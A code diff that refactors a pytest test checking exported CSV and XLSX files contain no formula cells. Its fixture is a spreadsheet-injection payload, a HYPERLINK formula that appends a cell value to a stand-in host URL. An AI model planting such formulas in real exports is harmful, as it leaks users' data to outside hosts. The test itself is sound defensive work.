@@ -202,15 +202,7 @@ def test_what_is_no_formula_stays(value):
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
 def test_no_cell_of_a_file_is_a_formula(cast, tmp_path, suffix):
     words = '=HYPERLINK("http://x?"&A1,"点这里")'
-    received(
-        cast,
-        text=words + "，请看",
-        title=words,
-        place=words,
-        area_as_written=words,
-        source_number=words,
-        type_as_written=words,
-    )
+    cast.case(text=words + "，请看", title=words, place=words, source_number=words, type_as_written=words)
     file = tmp_path / f"x{suffix}"
     exports.export(path=file, by=cast.dispatcher, at=TUESDAY)
     cells = [cell for row in _cells(file) for cell in row if isinstance(cell, str)]
